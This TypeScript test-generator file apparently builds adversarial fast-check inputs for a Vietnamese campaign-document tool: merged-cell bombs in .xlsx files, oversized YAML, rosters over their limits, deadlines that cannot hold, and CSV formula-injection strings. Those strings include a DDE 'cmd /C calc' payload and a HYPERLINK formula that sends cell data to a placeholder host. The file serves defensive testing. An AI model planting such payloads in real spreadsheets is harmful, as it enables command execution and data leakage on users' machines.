import fc from 'fast-check';
import { CAMPAIGN_FILE_LIMITS } from '../../../campaign-files/campaign-definition';
import { LIST_FILE_LIMITS } from '../../../list-files';
import type { AcceptedList } from '../../../activities/catalogue-export';
import { manyHugeMerges, manySmallMerges, xlsxWithMerges } from '../xlsx-merges';
import { rosterCsv, validDefinition, yamlOf, type DefinitionCase } from './definition-valid';
import { type LazyListFile } from './list-files';
import { sheetOf } from './list-sheet';
import { clone, described, validList, type Json } from './values';

// The boundaries found when dondoc was tried as an attacker and a careless user would: deadlines
// that cannot hold, merged-range bombs in .xlsx lists and rosters, files past their size or row
// bounds, and text that a spreadsheet would run as a formula.

const DAY = 86_400_000;
const vietnamDay = (at: number) => new Date(at + 7 * 3_600_000).toISOString().slice(0, 10);
const yamlCase = (mutation: string, d: Json, expect: string[], what: string, extra: DefinitionCase['files'] = {}) =>
  described<DefinitionCase>(
    { mutation, files: { 'chien-dich.yaml': yamlOf(d), ...extra }, main: 'chien-dich.yaml', expect, what },
    `${mutation}: ${what}`,
  );

/** Merged ranges past a bound: too many, too large together, or references Excel never writes. */
const merges = fc.oneof(
  fc
    .integer({ min: LIST_FILE_LIMITS.maxMergedRanges + 1, max: LIST_FILE_LIMITS.maxMergedRanges + 2_000 })
    .map((n) => ({ refs: manySmallMerges(n), what: `${n} vùng gộp ô nhỏ` })),
  fc
    .integer({ min: Math.floor(LIST_FILE_LIMITS.maxMergedCellsTotal / 26_000) + 1, max: 40 })
    .map((n) => ({ refs: manyHugeMerges(n), what: `${n} vùng gộp ô 26.000 ô` })),
  fc
    .constantFrom(
      'A:A',
      '1:1048576',
      'A1:XFD1048576',
      'B:D',
      'ZZZZ1:A2',
      'A0:B2',
      'A1:',
      ':B2',
      'A1:B2:C3',
      '$A$1:$B$2x',
    )
    .map((ref) => ({ refs: [ref], what: `vùng gộp ô "${ref}"` })),
);

export const mergeBombList: fc.Arbitrary<LazyListFile> = fc
  .tuple(sheetOf(validList()), merges)
  .map(([sheet, { refs, what }]) =>
    described(
      {
        build: async () => ({
          format: 'xlsx' as const,
          mutation: 'merge-bomb',
          content: await xlsxWithMerges(sheet.rows, refs),
          expected: { kind: 'cell' as const },
          what,
        }),
      },
      `xlsx merge-bomb: ${what}`,
    ),
  );

/** Campaign files whose deadlines cannot hold, and rosters past their bounds. */
export const boundedDefinition: fc.Arbitrary<DefinitionCase> = fc.oneof(
  fc.tuple(validDefinition, fc.integer({ min: 1, max: 60 })).map(([valid, after]) => {
    // Directed after its own submission deadline (the deadlines still ahead of today).
    const d = clone(valid);
    const deadlines = d.deadlines as Json;
    (d.directive as Json).date = vietnamDay(Date.parse(String(deadlines.submission)) + after * DAY);
    return yamlCase(
      'deadline-before-directive',
      d,
      ['deadlines.submission:'],
      `directive.date sau hạn nộp ${after} ngày`,
    );
  }),
  fc.tuple(validDefinition, fc.integer({ min: 1, max: 500 })).map(([valid, extra]) => {
    const d = clone(valid);
    const count = CAMPAIGN_FILE_LIMITS.maxAgencies + extra;
    const agencies = Array.from({ length: count }, (_v, i) => ({
      code: `xa-${i + 1}`,
      name: `UBND xã ${i + 1}`,
      kind: 'commune',
    }));
    delete d.agencies;
    d.roster = './co-quan.csv';
    return yamlCase('roster-too-many-agencies', d, ['danh sách cơ quan có hơn'], `${count} cơ quan`, {
      'co-quan.csv': rosterCsv(agencies, ['code', 'name', 'kind']),
    });
  }),
  fc.tuple(validDefinition, merges).map(([valid, { refs, what }]) => {
    const d = clone(valid);
    const rows = [['code', 'name', 'kind'], ...(d.agencies as Json[]).map((a) => [a.code, a.name, a.kind])];
    delete d.agencies;
    d.roster = './co-quan.xlsx';
    // The workbook is built when the case runs (exceljs is asynchronous): a placeholder until then.
    return described(
      { ...yamlCase('roster-merge-bomb', d, ['co-quan.xlsx'], what), rosterXlsx: { rows, refs } },
      `roster-merge-bomb: ${what}`,
    );
  }),
);

/** Builds what a case can only build asynchronously (a roster workbook). */
export async function withRosterWorkbook(c: DefinitionCase & { rosterXlsx?: { rows: unknown[][]; refs: string[] } }) {
  if (!c.rosterXlsx) return c;
  const content = await xlsxWithMerges(c.rosterXlsx.rows as string[][], c.rosterXlsx.refs, 'Cơ quan');
  return { ...c, files: { ...c.files, 'co-quan.xlsx': content } };
}

/** The campaign file as people write it, past its size bound: refused before it is parsed. */
export function oversizedDefinition(): DefinitionCase {
  const padding = `# ${'ghi chú '.repeat(Math.ceil(CAMPAIGN_FILE_LIMITS.maxYamlBytes / 9) + 10)}\n`;
  return described(
    {
      mutation: 'yaml-too-large',
      files: { 'chien-dich.yaml': `${padding}id: x\n` },
      main: 'chien-dich.yaml',
      expect: ['tệp chiến dịch nặng'],
      what: 'tệp hơn 5 MB',
    },
    'yaml-too-large: tệp hơn 5 MB',
  );
}

/** Text a spreadsheet would run as a formula (CSV injection), in every catalogue column agencies fill. */
const formulaLike = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '\t=', ' =', '\n='),
    fc.constantFrom('HYPERLINK("http://x/?"&A1,"Mở")', "1+cmd|' /C calc'!A0", 'SUM(1,2)', '2+3', 'A1', ''),
    fc.string({ maxLength: 8 }),
  )
  .map(([start, body, tail]) => `${start}${body}${tail}`);

/** Accepted lists whose every text column (name, paper, Lĩnh vực, Căn cứ, Ghi chú) a spreadsheet would run. */
export const hostileCatalogue: fc.Arbitrary<AcceptedList[]> = fc
  .array(fc.tuple(formulaLike, formulaLike, formulaLike, fc.boolean()), { minLength: 1, maxLength: 6 })
  .map((texts) =>
    texts.map(([procedureName, documentName, other, hostileCode], i) => ({
      agencyCode: `co-quan-${i}`,
      list: {
        procedures: [
          {
            code: hostileCode ? `=1+${i}` : `1.00000${i}`,
            name: procedureName,
            field: other,
            documents: [{ name: documentName, kind: 'ket_qua' as const, basis: other, note: documentName }],
          },
        ],
      },
    })),
  );

/** A cell the export wrote as a formula (to a spreadsheet): its first character starts one. */
export const startsFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell);
